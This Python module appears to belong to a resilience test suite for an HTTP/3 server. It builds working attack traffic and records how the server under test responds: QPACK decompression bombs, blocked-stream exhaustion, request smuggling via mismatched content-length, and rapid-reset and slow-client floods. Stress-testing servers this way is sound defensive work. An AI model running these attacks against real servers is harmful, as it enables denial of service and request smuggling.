"""Attacks of a client that speaks HTTP/3."""

from __future__ import annotations

import time
from typing import Final

from ...rogue import encode
from ...rogue.encode import DATA, GET, HEADERS, POST, SETTINGS, frame, headers, varints
from ...rogue.peer import DATA_BIDI_LOCAL, MAX_DATA, Plan
from ...rogue.tls import ONE_RTT
from ..field import Field
from ..peer import Peer
from ..row import row
from .frames import LARGE, closed_with

H3_STREAM_CREATION_ERROR, H3_EXCESSIVE_LOAD = 0x103, 0x107
QPACK_DECOMPRESSION_FAILED, QPACK_ENCODER_STREAM_ERROR = 0x200, 0x201
# Indexed field line of the static table's entry 56 (RFC 9204 appendix A): strict-transport-security
# with 44 bytes of value. One byte becomes 101, by the count of RFC 9114 section 4.2.2.
STATIC_LINE: Final = b"\xf8"
# Streams that may be blocked, as the server's SETTINGS say.
BLOCKED: Final = 100
# Bytes of stream data in a packet.
PIECE: Final = 1100
# Seconds after which a server gives up on headers (docs/limits.md), and a little.
HEADER_TIME: Final = 11.0


def say(peer: Peer, stream: int, data: bytes, *, end: bool = False) -> None:
    """The next bytes of a stream, in as many packets as they take."""
    for first in range(0, max(len(data), 1), PIECE):
        last = first + PIECE >= len(data)
        peer.rogue.write(stream, data[first : first + PIECE], end=end and last)
        peer.flush()
        if first % (32 * PIECE) == 0:
            peer.take()


def allowed(peer: Peer) -> int:
    """Request streams that the server allows so far."""
    limits = (frame["limit"] for _, frame in peer.rogue.heard("MAX_STREAMS"))
    return max(limits, default=100)


def ended(peer: Peer, stream: int, seconds: float = 5.0) -> bool:
    """Waits until the server has answered or reset a stream."""

    def done(_: object) -> bool:
        resets = (frame["id"] for _, frame in peer.rogue.heard("RESET_STREAM"))
        return stream in peer.rogue.ended or stream in resets or peer.closed is not None

    return peer.until(done, seconds)


def http(field: Field, plan: Plan | None = None) -> Peer:
    """A connection whose control stream has begun."""
    peer = field.connect(plan)
    peer.begin_http()
    return peer


def say_in_turn(field: Field, size: int, request: bytes) -> None:
    """The same request so many times, one after another, each answered before the next."""
    peer, goes_on = http(field), True
    for number in range(size):
        if number % 50 == 49:
            peer = http(field)
        stream = number % 50 * 4
        say(peer, stream, request, end=True)
        goes_on &= ended(peer, stream) and peer.closed is None
    field.note("goes_on", goes_on and peer.served(4 * 60))


@row("qpack-bomb", full=100, fast=6)
def qpack_bomb(field: Field, size: int) -> str:
    """One byte for each field line of a hundred, in headers."""
    bomb = frame(HEADERS, b"\0\0" + STATIC_LINE * 60_000)
    say_in_turn(field, size, bomb)
    return f"{size} header sections of 60 kB that decode to 6 MB each"


@row("qpack-bomb-trailers", full=100, fast=6)
def qpack_bomb_trailers(field: Field, size: int) -> str:
    """The same behind a body."""
    bomb = headers(POST) + frame(DATA, b"x") + frame(HEADERS, b"\0\0" + STATIC_LINE * 60_000)
    say_in_turn(field, size, bomb)
    return f"{size} trailer sections of 60 kB that decode to 6 MB each"


@row("qpack-blocked", full=100, fast=5)
def qpack_blocked(field: Field, size: int) -> str:
    """Sections that wait for entries which never come, on more streams than the server allows."""
    peers = []
    for _ in range(size):
        peer = http(field)
        for index in range(BLOCKED + 1):
            peer.rogue.write(index << 2, frame(HEADERS, b"\2\0\x80"))
        peer.flush()
        peer.until(lambda rogue: rogue.closed)
        peers.append(peer)
    field.note("closed_share", closed_with(peers, QPACK_DECOMPRESSION_FAILED))
    return f"{size} connections with 101 field sections that wait for entries never inserted"


@row("qpack-blocked-bytes", full=10, fast=2)
def qpack_blocked_bytes(field: Field, size: int) -> str:
    """As many as it allows, and large ones: what it keeps while they wait."""
    peers = [http(field) for _ in range(size)]
    waiting = frame(HEADERS, b"\2\0\x80" + STATIC_LINE * 30_000)
    for peer in peers:
        for index in range(BLOCKED):
            say(peer, index << 2, waiting)
        peer.settle()
    field.note("goes_on", all(peer.closed is None for peer in peers))
    return f"{size} connections with 100 sections of 30 kB that wait for an entry never inserted"


@row("encoder-streams", full=99, fast=6)
def encoder_streams(field: Field, size: int) -> str:
    """A second encoder stream; a table larger than allowed; an instruction of 1 GiB."""
    stories = (
        ([b"\2", b"\2"], H3_STREAM_CREATION_ERROR),
        # Capacity of about 2 MiB, and an entry whose name has about 1 GiB.
        ([b"\2\x3f\xff\xff\x7f"], QPACK_ENCODER_STREAM_ERROR),
        ([b"\2\x5f\xff\xff\xff\xff\x03"], QPACK_ENCODER_STREAM_ERROR),
    )
    right = 0
    for number in range(size):
        told, code = stories[number % len(stories)]
        peer = http(field)
        for index, data in enumerate(told, 1):
            peer.rogue.write(peer.rogue.own(index, uni=True), data)
        peer.flush()
        peer.until(lambda rogue: rogue.closed)
        right += closed_with([peer], code) == 1
    field.note("closed_share", right / size)
    return f"{size} connections that open the encoder stream twice or insert without leave"


@row("settings", full=100, fast=6)
def settings(field: Field, size: int) -> str:
    """A SETTINGS frame that announces 1 GiB; an unknown frame of megabytes, which is skipped."""
    peers = []
    for number in range(size):
        peer = field.connect()
        control = peer.rogue.own(uni=True)
        if number % 2:
            say(peer, control, varints(0, SETTINGS, 1 << 30) + bytes(2_000))
            peer.until(lambda rogue: rogue.closed)
            peers.append(peer)
        else:
            say(peer, control, varints(0) + encode.settings() + varints(0x21, 1 << 40))
            say(peer, control, bytes(100_000))
            peer.settle()
            goes_on = peer.closed is None and peer.served()
    field.note("closed_share", closed_with(peers, H3_EXCESSIVE_LOAD))
    field.note("goes_on", goes_on)
    return f"{size} connections with SETTINGS of 1 GiB or unknown frames of 1 TiB on control"


@row("smuggling", full=1000, fast=40)
def smuggling(field: Field, size: int) -> str:
    """Bodies that are shorter or longer than content-length; two lengths; none at all."""
    put = [(b":method", b"PUT"), *GET[1:3], (b":path", b"/smuggled.bin")]
    stories = (
        headers([*put, (b"content-length", b"5")]) + frame(DATA, b"1234"),
        headers([*put, (b"content-length", b"5")]) + frame(DATA, b"123456"),
        headers([*put, (b"content-length", b"5"), (b"content-length", b"6")]),
        headers([*put, (b"content-length", b"5")]),
        headers([*put, (b"transfer-encoding", b"chunked")]) + frame(DATA, b"0\r\n\r\n"),
    )
    refused = 0
    peer = http(field)
    for number in range(size):
        if number % 80 == 79:
            peer = http(field)
        stream = number % 80 * 4
        peer.rogue.write(stream, stories[number % len(stories)], end=True)
        peer.flush()
        ended(peer, stream)
        refused += stream not in peer.rogue.ended and peer.closed is None
    field.note("refused_share", refused / size)
    field.note("files", sum(1 for _ in field.server.site.glob("smuggled*")))
    return f"{size} uploads whose length is not what was said"


@row("rapid-reset", full=30, fast=2)
def rapid_reset(field: Field, size: int) -> str:
    """Requests that are given up at once, as fast as the server allows streams."""
    peers, made = [], 0
    for _ in range(size):
        peer = http(field)
        index = 0
        while not peer.closed and index < 20_000:
            if index >= allowed(peer):
                if not peer.take(1.0):
                    break
                continue
            stream = index << 2
            request = headers(LARGE)
            peer.send(
                encode.stream(stream, 0, request)
                + varints(0x04, stream, 0x10C, len(request))
                + varints(0x05, stream, 0x10C)
            )
            index += 1
            if index % 16 == 0:
                peer.take()
        made = max(made, index)
        peers.append(peer)
    field.note("closed_share", closed_with(peers, H3_EXCESSIVE_LOAD))
    field.note("requests", made)
    return f"{size} connections that give up each request in the packet that makes it"


@row("made-you-reset", full=20, fast=2)
def made_you_reset(field: Field, size: int) -> str:
    """Requests that make the server reset: malformed ones, one after the other."""
    goes_on, made = True, 0
    malformed = headers([*LARGE, (b"Upper", b"x")])
    for _ in range(size):
        peer = http(field)
        index = 0
        while not peer.closed and index < 2_000:
            if index >= allowed(peer):
                if not peer.take(1.0):
                    break
                continue
            peer.rogue.write(index << 2, malformed, end=True)
            peer.flush()
            index += 1
            if index % 16 == 0:
                peer.take()
                # What was dealt with need not be looked through again.
                del peer.rogue.frames[ONE_RTT][:-200]
        made += index
        peer.settle(2.0)
    goes_on = http(field).served()
    field.note("goes_on", goes_on)
    return f"{made} malformed requests in {size} connections, up to 2,000 each"


@row("slow-readers", full=50, fast=2)
def slow_readers(field: Field, size: int) -> str:
    """Ask for 64 MiB on every stream and take nothing."""
    peers = []
    for _ in range(size):
        peer = http(field, Plan(parameters={DATA_BIDI_LOCAL: 1_000, MAX_DATA: 50_000}))
        for index in range(100):
            peer.rogue.write(index << 2, headers(LARGE), end=True)
            peer.flush()
            peer.take()
        peers.append(peer)
    # Whatever the server reads ahead, it has read by then.
    deadline = time.monotonic() + 2.0
    while time.monotonic() < deadline:
        for peer in peers:
            peer.take(0.01)
    field.note("goes_on", all(peer.closed is None for peer in peers))
    return f"{size} connections, 100 requests for 64 MiB each, 1,000 bytes of each accepted"


@row("slow-senders", full=50, fast=2)
def slow_senders(field: Field, size: int) -> str:
    """Headers of which one byte comes in a while."""
    peers = [http(field) for _ in range(size)]
    request = headers(GET)
    for peer in peers:
        for index in range(100):
            peer.rogue.write(index << 2, request[:1])
            peer.flush()
        peer.take()
    deadline, at = time.monotonic() + HEADER_TIME, 1
    while time.monotonic() < deadline:
        for peer in peers:
            # One byte on one stream of each.
            if peer.closed is None and at < len(request) - 1:
                peer.rogue.write(0, request[at : at + 1])
            peer.take(0.5 / size)
        at += 1
    reset = sum(
        len({frame["id"] for _, frame in peer.rogue.heard("RESET_STREAM")}) for peer in peers
    )
    field.note("ended_share", reset / (100 * size))
    field.note("goes_on", all(peer.closed is None and peer.served(400) for peer in peers[:5]))
    return f"{size} connections, 100 requests each whose headers come byte by byte or not at all"
